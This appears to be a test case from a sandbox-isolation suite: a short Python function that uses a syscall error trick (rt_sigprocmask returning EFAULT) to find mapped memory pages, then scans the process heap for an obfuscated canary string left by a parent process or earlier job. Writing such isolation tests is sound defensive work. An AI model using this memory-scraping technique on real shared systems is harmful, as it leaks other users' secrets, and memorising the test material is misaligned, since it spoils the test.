# all of the heap, for a secret of the parent or of an earlier job
# class: forgery
# cases: 75
# levels: 1 2 3
# allowed: OK UNSUPPORTED TIMEOUT
# inputs: ["1"]
# cpu_s: 2.0
import ctypes
import gc
import sys

def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    mask = 135 if 'aarch64' in sys.implementation._multiarch else 14  # rt_sigprocmask
    word = bytes([c ^ x for c in b'j5o5sx'])
    blocks = {id(o) >> 16 for o in gc.get_objects()}
    blocks |= {b + d for b in blocks for d in (-2, -1, 1, 2)}
    found = []
    for block in sorted(blocks):
        for page in range(block << 16, (block + 1) << 16, 4096):
            # There is no such `how`: EINVAL, or EFAULT (14) where the page is not mapped.
            libc.syscall(mask, 99, ctypes.c_void_p(page), None, 8)
            if ctypes.get_errno() == 14:
                continue
            data = ctypes.string_at(page, 4096)
            at = data.find(word)
            while at >= 0:
                found.append(data[at:at + 64].decode('latin-1'))
                at = data.find(word, at + 1)
    return found[:100]
